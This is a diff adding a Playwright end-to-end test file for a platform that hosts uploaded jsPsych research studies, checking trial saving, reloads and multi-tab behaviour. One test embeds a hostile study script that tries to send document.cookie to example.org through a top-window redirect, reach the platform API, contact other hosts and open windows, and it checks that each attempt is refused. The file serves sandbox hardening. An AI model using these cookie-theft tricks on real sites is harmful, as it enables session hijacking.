@@ -1,0 +1,233 @@
+import { readFileSync } from 'node:fs';
+import { zipSync } from 'fflate';
+import type { Page } from 'playwright-core';
+import { seriousViolations, sticksOut } from './support/accessibility';
+import { callApi, enrolByApi, newPerson, type Person, signInByApi } from './support/api';
+import { useBrowser } from './support/browser';
+import { demoAccounts, product } from './support/product';
+import { see, seeHeading, seeText } from './support/see';
+
+const browser = useBrowser();
+let researcher: Person;
+beforeAll(async () => {
+  researcher = await signInByApi(demoAccounts.researcher);
+});
+
+const packaged = (path: string) => readFileSync(`node_modules/${path}`);
+/** A study as researchers make them with jsPsych 8: it knows nothing of where it runs. */
+const words = {
+  'index.html': Buffer.from(`<!doctype html>
+<html lang="en"><head><title>Words</title>
+<script src="jspsych.js"></script><script src="keyboard.js"></script></head>
+<body></body><script src="study.js"></script></html>`),
+  'jspsych.js': packaged('jspsych/dist/index.browser.min.js'),
+  'keyboard.js': packaged('@jspsych/plugin-html-keyboard-response/dist/index.browser.min.js'),
+  'study.js': Buffer.from(`
+const jsPsych = initJsPsych({ on_finish: () => jsPsych.data.addProperties({ group: 'a' }) });
+const words = jsPsych.randomization.shuffle(['red', 'green', 'blue', 'black']);
+jsPsych.run(words.map((word) => ({
+  type: jsPsychHtmlKeyboardResponse, stimulus: '<p>' + word + '</p>', choices: ['f'], data: { word },
+  on_finish: (data) => { data.correct = true; },
+})));`),
+};
+
+/** A launched session of a study that runs here, whose roster names who started. */
+async function recruitFor(files: Record<string, Uint8Array>, title: string) {
+  const call = <T = { _id: string }>(method: string, path: string, body: object) =>
+    callApi<T>(method, path, { token: researcher.token, body });
+  const study = await call<{ _id: string; version: number }>('POST', '/api/studies/', {
+    title,
+    duration_minutes: 5,
+    privacy_level: 'roster_on_start',
+  });
+  const form = new FormData();
+  const archive = new Uint8Array(zipSync(files));
+  form.append('file', new Blob([archive], { type: 'application/zip' }), 'study.zip');
+  const uploaded = await fetch(`${product().url}/api/studies/${study._id}/versions/`, {
+    method: 'POST',
+    headers: { authorization: `Bearer ${researcher.token}` },
+    body: form,
+  });
+  const version = (await uploaded.json()) as { _id: string };
+  expect({ status: uploaded.status, version }).toMatchObject({ status: 201 });
+  await call('PUT', `/api/studies/${study._id}/`, {
+    version: study.version,
+    runtime: {
+      kind: 'hosted',
+      version_id: version._id,
+      entry: 'index.html',
+      resume: { mode: 'trial', hours: 24 },
+      hosts: [],
+      needs: [],
+      expected_records: null,
+      conditions: null,
+    },
+  });
+  const consent = await call<{ _id: string; sha256: string }>(
+    'PUT',
+    `/api/studies/${study._id}/consent/`,
+    { title: 'Consent form', body_markdown: 'You press keys.' },
+  );
+  const session = await call('POST', `/api/studies/${study._id}/sessions/`, { capacity: 5 });
+  await call('PUT', `/api/sessions/${session._id}/`, { state: 'active' });
+  return {
+    study_id: study._id,
+    session_id: session._id,
+    link_key: null,
+    title,
+    consent: { _id: consent._id, sha256: consent.sha256 },
+  };
+}
+
+/** A participant on the page around the study. The page reads no acceptance of cookies. */
+async function atTheDoor(study: Awaited<ReturnType<typeof recruitFor>>, width = 1280) {
+  const person = await newPerson();
+  const { _id } = await enrolByApi(person, study);
+  const page = await browser.open({
+    as: person,
+    cookiesAccepted: false,
+    viewport: { width, height: 800 },
+  });
+  return { person, page, participation: _id };
+}
+const begin = async (page: Page) =>
+  page.getByRole('button', { name: 'Begin', exact: true }).click();
+const shown = (page: Page) => page.frameLocator('iframe').locator('#jspsych-content p');
+/** Answers what is shown, and waits for what comes next. @returns the word that was there */
+async function answer(page: Page): Promise<string> {
+  const word = (await shown(page).textContent()) ?? '';
+  await page.keyboard.press('f');
+  await shown(page).filter({ hasNotText: word }).or(page.locator('h1')).waitFor();
+  return word;
+}
+
+interface Line {
+  kind: string;
+  data: string;
+}
+async function recordsOf(session: string): Promise<Line[]> {
+  const { items } = await callApi<{ items: { _id: string; state: string }[] }>(
+    'GET',
+    `/api/sessions/${session}/runs/`,
+    { token: researcher.token },
+  );
+  const run = items.find(({ state }) => state === 'finished') ?? items[0];
+  const answer = await fetch(`${product().url}/api/runs/${run?._id}/records/`, {
+    headers: { authorization: `Bearer ${researcher.token}` },
+  });
+  const lines = (await answer.text()).split('\n').filter(Boolean);
+  return lines.map((line) => JSON.parse(line) as Line);
+}
+const trialsIn = (records: readonly Line[]) =>
+  records
+    .filter(({ kind }) => kind === 'trial')
+    .map(({ data }) => JSON.parse(data) as { word?: string; correct?: boolean });
+
+describe('A study that runs here', () => {
+  it('stores each trial, over a line that is cut and a reload, and is done once all are here', async () => {
+    const study = await recruitFor(words, 'Words and keys');
+    const { page, participation, person } = await atTheDoor(study);
+    await page.goto(`/study/details/${study.study_id}`);
+    await page.getByRole('link', { name: 'Begin the study' }).click();
+    await page.waitForURL(`**/run/${participation}`);
+    await seeHeading(page, 'Words and keys');
+    expect(await seriousViolations(page)).toEqual([]);
+    await begin(page);
+    const seen = [await answer(page)];
+    await page.context().setOffline(true);
+    seen.push(await answer(page));
+    await seeText(page, 'Waiting for your connection');
+    await page.context().setOffline(false);
+    await see(page.getByRole('status').filter({ hasText: /^Saved$/ }));
+
+    await page.reload();
+    await begin(page);
+    // The third word: the order is the same, and what was answered is not shown again.
+    while (seen.length < 4) seen.push(await answer(page));
+    expect([...seen].sort()).toEqual(['black', 'blue', 'green', 'red']);
+    await seeHeading(page, 'All of your answers have arrived');
+    expect(await seriousViolations(page)).toEqual([]);
+
+    const { items } = await callApi<{ items: { state: string }[] }>('GET', '/api/participations/', {
+      token: person.token,
+    });
+    expect(items).toMatchObject([{ state: 'completed' }]);
+    const records = await recordsOf(study.session_id);
+    expect(trialsIn(records)).toEqual(
+      seen.map((word) => expect.objectContaining({ word, correct: true }) as object),
+    );
+    expect(records.filter(({ kind }) => kind === 'amend')).toHaveLength(4);
+    expect(records.at(-1)?.kind).toBe('finish');
+  });
+
+  it('goes on in the tab that began last, also on a phone', async () => {
+    const study = await recruitFor(words, 'Words in two tabs');
+    const { page, participation } = await atTheDoor(study, 360);
+    await page.goto(`/run/${participation}`);
+    await seeHeading(page, 'Words in two tabs');
+    expect(await sticksOut(page)).toEqual([]);
+    await begin(page);
+    await answer(page);
+    const other = await page.context().newPage();
+    await other.goto(`/run/${participation}`);
+    await begin(other);
+    await seeHeading(page, 'The study goes on in another tab');
+    for (let i = 0; i < 3; i++) await answer(other);
+    await seeHeading(other, 'All of your answers have arrived');
+    expect(trialsIn(await recordsOf(study.session_id))).toHaveLength(4);
+  });
+
+  it('reaches no token, no page of ours, no call and no other host, however its code tries', async () => {
+    const study = await recruitFor(
+      {
+        'index.html': Buffer.from('<!doctype html><body><script src="study.js"></script></body>'),
+        'study.js': Buffer.from(`
+const tries = {
+  cookie: () => document.cookie,
+  parent: () => parent.document.cookie,
+  top: () => { top.location = 'https://example.org/?' + document.cookie; return 'left'; },
+  call: async () => (await fetch('/api/users/profile/')).status,
+  elsewhere: async () => (await fetch('https://example.org/')).status,
+  socket: () => new Promise((done, no) => {
+    const one = new WebSocket('wss://example.org/'); one.onopen = () => done('open'); one.onerror = no;
+  }),
+  window: () => open('/profile') === null ? Promise.reject(new Error('no window')) : 'opened',
+};
+(async () => {
+  for (const [what, run] of Object.entries(tries)) {
+    let came;
+    try { came = await run(); } catch (error) { came = 'refused'; }
+    commonlab.record({ what, came: came === undefined ? 'nothing' : came });
+  }
+  commonlab.finish();
+})();`),
+      },
+      'A study that tries',
+    );
+    const { page, participation } = await atTheDoor(study);
+    await page.goto(`/run/${participation}`);
+    await begin(page);
+    await seeHeading(page, 'All of your answers have arrived');
+    expect(page.url()).toContain(`/run/${participation}`);
+    const came = Object.fromEntries(
+      trialsIn(await recordsOf(study.session_id)).map((trial) => {
+        const { what, came } = trial as { what: string; came: unknown };
+        return [what, came];
+      }),
+    );
+    expect(came).toEqual({
+      cookie: '',
+      parent: 'refused',
+      top: 'refused',
+      call: 'refused',
+      elsewhere: 'refused',
+      socket: 'refused',
+      window: 'refused',
+    });
+    // Each refusal is said on the console; nothing else is.
+    const others = browser.problems
+      .splice(0)
+      .filter((one) => !/Content Security Policy|sandbox|example\.org|Blocked|Unsafe/i.test(one));
+    expect(others).toEqual([]);
+  });
+});
